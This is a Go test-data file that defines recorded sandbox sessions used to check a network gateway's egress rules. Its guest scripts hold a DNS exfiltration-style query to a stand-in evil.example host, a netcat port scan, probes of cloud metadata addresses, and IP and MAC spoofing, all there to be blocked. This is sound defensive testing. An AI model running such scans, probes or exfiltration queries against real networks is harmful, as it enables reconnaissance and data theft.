package pcapgen

import (
	"slices"
	"strings"
)

// All are the cases that are generated and those that were recorded, in the order of their names.
func All() []Case {
	all := slices.Concat(Cases(), Recorded(), Spoken())
	slices.SortFunc(all, func(a, b Case) int { return strings.Compare(a.Name, b.Name) })
	return all
}

// The zones of recorded sessions.
var (
	goodZone = []string{"good.example. 300 IN A " + good}
	evilZone = []string{"good.example. 300 IN A " + good, "evil.example. 300 IN A " + evil}
)

// Recorded are sessions of real guests: Linux's TCP/IP stack, busybox' programs, Go's TLS and HTTP/2,
// taken with `msb run --pcap` on a host whose internet is a namespace beside it. A test makes them again
// (docs/review.md); no two recordings are the same, so the files are what counts.
func Recorded() []Case {
	const secret = `
[secrets.TOKEN]
from = "command:cat /proc/sys/kernel/random/uuid"
hosts = ["good.example"]
in = ["header:Authorization"]
`
	return []Case{
		{
			Name: "real-https-secret", Policy: inspected + secret, Zone: goodZone,
			Story: "A real guest sends a placeholder where the secret may go, then in a query, then asks for a path that the rule does not have. Go's client speaks HTTP/2; the capture has its keys, and the placeholder in clear.",
			Script: `msb-tour get -H "Authorization: Bearer $TOKEN" https://good.example/repos/acme
msb-tour get "https://good.example/repos/acme?token=$TOKEN"
msb-tour get https://good.example/user`,
		},
		{
			Name: "real-http", Policy: inspected, Zone: goodZone,
			Story: "busybox' wget and netcat in a real guest: an allowed path, another path, another Host on the pinned address, and an address without a name.",
			Script: `a=` + good + `; nslookup good.example; for p in /repos/acme /user; do wget -q -O - --header 'Host: good.example' http://$a$p; done
printf 'GET /repos/acme HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n' | nc -w 5 $a 80
wget -q -O - http://` + evil + `/repos/acme`,
		},
		{
			Name: "real-dns", Policy: webOnly, Zone: evilZone,
			Story:  "nslookup in a real guest asks for an allowed name, for others, and asks another resolver. Every question ends in the gateway, and what no rule allows is asked nowhere.",
			Script: `nslookup good.example; nslookup evil.example; nslookup good.example 8.8.8.8; nslookup evil.example 1.1.1.1; nslookup -type=txt c3RvbGVu.evil.example; nslookup -type=mx good.example`,
		},
		{
			Name: "real-ping", Policy: "[[egress.allow]]\nname = \"ping\"\ncidrs = [\"93.184.215.0/24\"]\nprotocol = \"icmp\"\n",
			Story:  "ping in a real guest: an allowed address, also with 4,000 bytes, the gateway by both families, an address that no rule covers, a private one; then traceroute, whose datagrams are refused at once.",
			Script: `for a in ` + good + ` 192.168.127.1 fd6d:7362::1 ` + evil + ` 10.0.0.1; do ping -c 2 -W 1 $a; done; ping -c 1 -s 4000 ` + good + `; traceroute -n -m 2 -q 1 -w 1 ` + good,
		},
		{
			Name: "real-port-scan", Policy: "[[egress.allow]]\nname = \"one port\"\ncidrs = [\"45.33.32.156/32\"]\nports = [80]\nprotocol = \"tcp\"\n",
			Story:  "netcat in a real guest tries forty ports of a public host, then private, link-local and metadata addresses. One port is allowed; the kernel learns of every refusal by a reset, and tries nothing twice.",
			Script: `p=60; while [ $p -lt 100 ]; do nc -w 2 ` + evil + ` $p </dev/null; p=$((p+1)); done; for a in 10.0.0.1 172.16.0.1 192.168.0.1 100.64.0.1 169.254.1.1 169.254.169.254 fd00:ec2::254; do nc -w 2 $a 80 </dev/null; done`,
		},
		{
			Name: "real-download", Policy: webOnly, Zone: goodZone,
			Story:  "A real guest downloads 96 KiB over TLS that is not inspected: large segments, window updates and delayed acknowledgements of Linux' own TCP. Then it says another name to the pinned address.",
			Script: `echo "$ISLAND_CA" >> /etc/ssl/certs/ca-certificates.crt; msb-tour get https://good.example/bulk | wc -c; echo '` + good + ` evil.example' >> /etc/hosts; msb-tour get https://evil.example/`,
		},
		{
			Name: "real-spoof", Policy: everything,
			Story: "A real guest gives itself other addresses and another MAC, and speaks from them: the frame guard drops all of it. Back at its own it still reaches what it may.",
			Script: `echo 0 > /proc/sys/net/ipv6/conf/eth0/accept_dad; ip addr add 10.9.9.9/32 dev eth0; ip route add ` + evil + ` via 192.168.127.1 src 10.9.9.9
nc -w 1 ` + evil + ` 80 </dev/null; ping -c 1 -W 1 ` + evil + `; ip route del ` + evil + `; ip addr del 10.9.9.9/32 dev eth0
m=$(cat /sys/class/net/eth0/address); ip link set eth0 down; ip link set eth0 address 02:00:00:00:00:99; ip link set eth0 up; ip route add default via 192.168.127.1
nc -w 1 ` + evil + ` 80 </dev/null; ip link set eth0 down; ip link set eth0 address $m; ip link set eth0 up; ip route add default via 192.168.127.1
wget -q -O - http://` + evil + `/`,
		},
		{
			Name: "real-tour", Zone: goodZone,
			Policy: "[[egress.allow]]\nname = \"echo service\"\nhosts = [\"echo.msb.internal\"]\nprotocol = \"https\"\nmethods = [\"GET\", \"POST\"]\n\n[hosts]\n\"echo.msb.internal\" = \"builtin:echo\"\n" +
				strings.NewReplacer("TOKEN", "DEMO_TOKEN", "good.example", "echo.msb.internal").Replace(secret),
			Story:  "msb-tour, which `make run` runs: an inspected service of the gateway's own, a private address, a metadata service, a name that no rule allows, and a secret that only the service gets.",
			Script: `msb-tour`,
		},
	}
}
